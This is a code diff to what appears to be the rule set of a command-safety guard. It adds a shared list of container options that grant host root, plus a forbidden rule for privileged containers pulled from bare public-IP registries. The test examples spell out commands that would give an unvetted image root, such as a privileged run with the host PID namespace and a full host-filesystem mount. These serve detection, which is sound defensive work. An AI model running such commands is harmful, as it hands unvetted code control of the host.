@@ -11,6 +11,11 @@ _K8S_RECOVER = (
 )
 # programs whose output is what they downloaded
 _FETCHERS = ("curl", "wget", "http", "https", "xh", "fetch")
+# Options that hand a container the host's root: its filesystem, process namespace, every device and
+# capability (--privileged), or the container engine's socket (a root shell on the host one step away).
+_HOST_ROOT = ("-v=/:*", "--volume=/:*", "/:/*", "/:/", "--privileged", "--pid=host", "-v=/etc:*",
+              "-v=/var/run/docker.sock:*", "/var/run/docker.sock:*", "--mount=*source=/,*",
+              "--mount=*src=/,*")
 _K = ("kubectl", "oc", "k")
 # Runtime-security, intrusion-detection and audit agents as they are named when run in a cluster.
 _CLUSTER_SECURITY_AGENTS = ("*falco*", "*wazuh*", "*crowdstrike*", "*falcon-sensor*", "*sysdig*",
@@ -1040,19 +1045,7 @@ RULES = [
         "match": {
             "cmd": ("docker", "podman", "nerdctl"),
             "sub": ("run", "container run", "create"),
-            "words_any": (
-                "-v=/:*",
-                "--volume=/:*",
-                "/:/*",
-                "/:/",
-                "--privileged",
-                "--pid=host",
-                "-v=/etc:*",
-                "-v=/var/run/docker.sock:*",
-                "/var/run/docker.sock:*",
-                "--mount=*source=/,*",
-                "--mount=*src=/,*",
-            ),
+            "words_any": _HOST_ROOT,
         },
         "examples": {
             "match": [
@@ -1063,6 +1056,30 @@ RULES = [
                 "docker run --rm python:3.12-slim python -V",
                 'docker run --rm -v "$PWD":/app node:20 npm test',
             ],
+        },
+    },
+    {
+        # an image from a registry on a bare public IP address is code nobody vouches for (as `curl
+        # http://IP | sh` is); given the host's root (privileged, the host's process namespace, its
+        # filesystem or the docker socket) it runs as root on this machine: a dropper in a container.
+        # A private-range registry is the organisation's own network: host-mount's verification.
+        "id": "container.untrusted-image-host-root",
+        "level": "forbidden",
+        "irreversible": True,
+        "reason": "runs an image pulled from a registry on a bare public IP address with the host's "
+        "privileges: unvetted code with root on this machine",
+        "safer": "Pull from your organisation's registry by digest, and run it without --privileged or host "
+        "namespaces.",
+        "recovery": "Treat the host as compromised: stop the container, rotate credentials, rebuild.",
+        "match": {"cmd": ("docker", "podman", "nerdctl"), "sub": ("run", "container run", "create"),
+                  "words_any": _HOST_ROOT, "hosts": "public_ip"},
+        "examples": {
+            "match": ["docker run -d --privileged --pid=host --net=host 198.51.100.3:5000/agent:latest",
+                      "podman run --rm -v /:/host 203.0.113.4/tools/shell"],
+            "no_match": ["docker run -d --privileged --pid=host ghcr.io/acme/node-agent:1.4",
+                         "docker run --rm 198.51.100.3:5000/agent:latest",
+                         "docker run --privileged -v /:/host localhost:5000/dev/agent",
+                         "docker run --privileged 10.0.0.5:5000/ops/node-agent"],
         },
     },
     {
